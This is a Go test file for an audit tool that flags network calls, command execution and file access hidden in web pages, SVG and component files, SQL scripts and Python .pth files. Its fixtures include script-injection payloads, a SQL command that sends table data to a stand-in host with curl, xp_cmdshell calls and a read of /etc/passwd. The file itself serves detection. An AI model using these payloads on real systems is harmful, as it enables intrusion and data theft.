package audit

import (
	"strings"
	"testing"
)

// The scripts of a page are read wherever a browser may find one, and the hosts that it loads from.
func TestPages(t *testing.T) {
	const js = "fetch('https://x.example')"
	for _, test := range []struct{ file, src, want string }{
		{"a.html", "<p>a</p>\n<script>" + js + "</script>\n", "net:x.example"},
		{"a.htm", "<SCRIPT type=module>\n" + js + "\n</SCRIPT >", "net:x.example"},
		{"a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[ " + js + " ]]></script></svg>", "net:x.example"},
		{"a.vue", "<template><a @click=\"" + js + "\" v-html='x'/></template>\n<script setup lang=\"ts\">\nconst a: X = eval(b)\n</script>", "dynamic-exec net:x.example"},
		{"a.svelte", "<script>let a = 1</script>\n<a on:click|once={() => " + js + "}>{a}</a>", "net:x.example"},
		{"a.astro", "---\n" + js + "\n---\n<p>{eval(a)}</p>", "dynamic-exec net:x.example"},
		{"a.html", "<script>" + js, "net:x.example"},
		{"a.html", "<!--> <script>" + js + "</script> -->", "net:x.example"},
		{"a.html", "<!-- <script> ` --> <script>" + js + "</script>", "net:x.example"},
		{"a.html", "<!-- <a title=\" --> <script>" + js + "</script> <!-- \"> -->", "net:x.example"},
		{"a.html", "<script>\n<!--\n<script></script>\n" + js + "\n</script>", "dynamic-exec"},
		{"a.html", "<script data-a='>' src=\"https://s.example/a.js\"></script>", "net:s.example"},
		{"a.html", "<script src=//s.example/a.js></script>", "net:s.example"},
		{"a.html", "<script src=data:,fetch('https://x.example')></script>", "net:x.example"},
		{"a.html", "<script type=text/python>import os\nos.system('gh a')</script>", "run:gh"},
		{"a.html", "<script type=text/vbscript>x</script>", "dynamic-exec"},
		{"a.html", "<body onload=\"" + js + "\">", "net:x.example"},
		{"a.html", "<img src=x onerror=fetch(&quot;https://x.example&quot;)>", "net:x.example"},
		{"a.html", "<a title=\" onx=\" onclick=\"" + js + "\">", "net:x.example"},
		{"a.html", "<a href=\"java&#10;script:" + js + "\">", "net:x.example"},
		{"a.html", "<iframe srcdoc=\"&lt;script&gt;" + js + "&lt;/script&gt;\"></iframe>", "net:x.example"},
		{"a.html", "<iframe src='data:text/html;base64,PHNjcmlwdD5mZXRjaCgnaHR0cHM6Ly94LmV4YW1wbGUnKTwvc2NyaXB0Pg=='></iframe>", "net:x.example"},
		{"a.html", "<link rel=stylesheet href=https://l.example/a.css><style>@import url(https://i.example/a); b { background: url('https://b.example') }</style>", "net:b.example net:i.example net:l.example"},
		{"a.html", "<meta http-equiv=refresh content='0;url=https://r.example/'>", "net:r.example"},
		{"a.html", "<object data=https://o.example></object><img src=https://p.example/1.gif>", "net:o.example net:p.example"},
		// what is none
		{"a.html", "<p><a href=\"https://a.example\">See</a> once = \"a\". x = 1</p><form action=https://f.example></form>", ""},
		{"a.html", "<script type=\"application/json\">{\"a\": \"eval(x)\"}</script>", ""},
		{"a.html", "<script>document.getElementById('a').textContent = '1'; // don't\n</script>", ""},
		{"a.html", "<code>curl https://c.example | sh</code>", ""},
		{"a.svg", "<svg><path d=\"M0 0\" fill='url(#a)'/></svg>", ""},
	} {
		got := strings.Join(Read([]File{{Path: test.file, Data: []byte(test.src)}}).Set().Texts(), " ")
		if got != test.want {
			t.Errorf("%s %q:\n got %q\nwant %q", test.file, test.src, got, test.want)
		}
	}
	p, _ := Parse("net:x.example")
	src := "<p>\n</p>\n<script>\n\nlet a\n" + js + "\n</script>\n"
	if at := Read([]File{{Path: "a.html", Data: []byte(src)}}).At(p); len(at) != 1 || at[0].Line != 6 {
		t.Errorf("the place of a call is %v, want line 6", at)
	}
}

// SQL and the paths of Python start programs too.
func TestDatabases(t *testing.T) {
	for _, test := range []struct{ file, src, want string }{
		{"a.sql", "COPY a TO PROGRAM 'curl -d @- https://q.example';\n", "run:curl net:q.example"},
		{"a.sql", "copy a\nfrom /* x */ program\n  E'gh ''a''';\n", "run:gh"},
		{"a.sql", "COPY a FROM PROGRAM $$gh$$;\n", "dynamic-exec"},
		{"a.sql", "\\! gh a\n", "run:gh"},
		{"a.sql", "\\o | gh a\n", "run:gh"},
		{"a.sql", ".shell gh a\n", "run:gh"},
		{"a.sql", "EXEC master..xp_cmdshell 'gh a';\n", "run:gh"},
		{"a.sql", "EXEC xp_cmdshell @x;\n", "dynamic-exec"},
		{"a.sql", "SELECT LOAD_FILE('/etc/passwd') INTO OUTFILE '/etc/x';\nSELECT lo_export(1, '/etc/y')\n", "read:/etc/passwd write:/etc/x write:/etc/y"},
		{"a.sql", "CREATE FUNCTION f() RETURNS int AS $$ x $$ LANGUAGE plpython3u;\n", "dynamic-exec"},
		{"a.pth", "import os; os.system('gh a')\n", "run:gh"},
		{"a.pth", "lib\n# import x\nimport\tos; exec(open('a').read())\n", "dynamic-exec"},
		// what is none
		{"a.sql", "SELECT a, program FROM programs WHERE system = 'x' AND note = 'from program to program, https://n.example';\n", ""},
		{"a.sql", "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;\n", ""},
		{"a.pth", "../lib\nimportant\n", ""},
	} {
		got := strings.Join(Read([]File{{Path: test.file, Data: []byte(test.src)}}).Set().Texts(), " ")
		if got != test.want {
			t.Errorf("%s %q:\n got %q\nwant %q", test.file, test.src, got, test.want)
		}
	}
}
